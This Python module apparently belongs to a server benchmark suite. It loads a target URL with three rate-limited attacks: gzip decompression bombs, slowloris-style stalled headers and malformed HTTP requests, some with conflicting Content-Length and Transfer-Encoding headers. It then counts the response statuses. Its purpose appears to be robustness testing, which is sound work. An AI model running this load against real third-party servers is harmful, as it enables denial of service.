"""The load of the attacks, in a process of its own: `python -m bench.attacking URL SECONDS KIND…`.

Every kind is bounded in rate, in time, and in the connections that are open at once. Each request has a connection of
its own, because the server closes it; what it answers is counted by status.
"""

from __future__ import annotations

import asyncio
import gzip
import itertools
import json
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from urllib.parse import urlsplit

BOMB = gzip.compress(bytes(50_000_000))
BOMB_BYTES_PER_SECOND = 4_000_000
MALFORMED_PER_SECOND = 1000
STALLED = 200
# A byte of a stalled head; each of them counts as life for a server that only looks at silence.
DRIBBLE_EVERY = 0.5
# Requests of one kind that are open at once.
WORKERS = 64
LONGEST = 10.0

MALFORMED = (
    b"garbage\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    b"GET /v HTTP/9.9\r\nHost: x\r\n\r\n",
    b"GET /v HTTP/1.1\r\nHost: x\r\nbad name: x\r\n\r\n",
    b"POST /v HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n",
)


@dataclass
class Tally:
    """What was sent and what was answered.

    Attributes:
        seconds: How long it took.
        sent: Requests, by kind; of stalled heads, connections.
        statuses: Answers, by status.
        broken: Requests without an answer, and connections that were not accepted.
    """

    seconds: float = 0.0
    sent: Counter[str] = field(default_factory=Counter)
    statuses: Counter[int] = field(default_factory=Counter)
    broken: int = 0


class Attack:
    """One process of an attacker.

    Args:
        url: The page's.
        seconds: How long it goes on.
    """

    def __init__(self, url: str, seconds: float) -> None:
        place = urlsplit(url)
        self._host, self._port, self._name = place.hostname or "", place.port or 80, place.netloc
        self._began = time.perf_counter()
        self._seconds = seconds
        self.tally = Tally()

    async def run(self, kinds: list[str]) -> Tally:
        """All of these kinds at once."""
        attacks: dict[str, Callable[[], Awaitable[None]]] = {
            "bombs": self._bombs,
            "stalled": self._stalled,
            "malformed": self._malformed,
        }
        await asyncio.gather(*(attacks[kind]() for kind in kinds))
        self.tally.seconds = self._now
        return self.tally

    @property
    def _now(self) -> float:
        return time.perf_counter() - self._began

    async def _bombs(self) -> None:
        head = (
            f"POST /v/start HTTP/1.1\r\nHost: {self._name}\r\nOrigin: http://{self._name}\r\n"
            f"X-Forwarded-For: 198.19.0.1\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n"
            f"Content-Length: {len(BOMB)}\r\n\r\n"
        )
        request = head.encode("ascii") + BOMB
        await self._at_rate("bombs", BOMB_BYTES_PER_SECOND / len(request), itertools.repeat(request))

    async def _malformed(self) -> None:
        await self._at_rate("malformed", MALFORMED_PER_SECOND, itertools.cycle(MALFORMED))

    async def _stalled(self) -> None:
        async def hold() -> None:
            while self._now < self._seconds:
                self.tally.sent["stalled"] += 1
                await self._dribble()
                await asyncio.sleep(DRIBBLE_EVERY / 10)

        await asyncio.gather(*(hold() for _ in range(STALLED)))

    async def _dribble(self) -> None:
        """A head that never ends, until the server hangs up or the time is over."""
        try:
            reader, writer = await asyncio.open_connection(self._host, self._port)
        except OSError:
            return
        try:
            writer.write(f"GET /v HTTP/1.1\r\nHost: {self._name}\r\nX-Slow: ".encode("ascii"))
            while self._now < self._seconds and not reader.at_eof():
                writer.write(b"x")
                await writer.drain()
                try:
                    async with asyncio.timeout(DRIBBLE_EVERY):
                        await reader.read(1)
                except TimeoutError:
                    continue
        except OSError:
            return
        finally:
            writer.close()

    async def _at_rate(
        self, kind: str, rate: float, requests: itertools.repeat[bytes] | itertools.cycle[bytes]
    ) -> None:
        async def work(number: int) -> None:
            for turn in itertools.count():
                due = (number + turn * WORKERS) / rate
                if max(self._now, due) >= self._seconds:
                    return
                await asyncio.sleep(max(0.0, due - self._now))
                self.tally.sent[kind] += 1
                await self._request(next(requests))

        await asyncio.gather(*map(work, range(WORKERS)))

    async def _request(self, content: bytes) -> None:
        """Send it, and read until the server hangs up."""
        writer = None
        try:
            async with asyncio.timeout(LONGEST):
                reader, writer = await asyncio.open_connection(self._host, self._port)
                writer.write(content)
                answer = await reader.readuntil(b"\r\n")
            self.tally.statuses[int(answer.split(b" ", 2)[1])] += 1
        except (OSError, asyncio.IncompleteReadError, TimeoutError):
            self.tally.broken += 1
        finally:
            if writer:
                writer.transport.abort()


def main() -> None:
    """Print the tally as JSON."""
    url, seconds, *kinds = sys.argv[1:]
    tally = asyncio.run(Attack(url, float(seconds)).run(kinds))
    json.dump(vars(tally), sys.stdout)


if __name__ == "__main__":
    main()
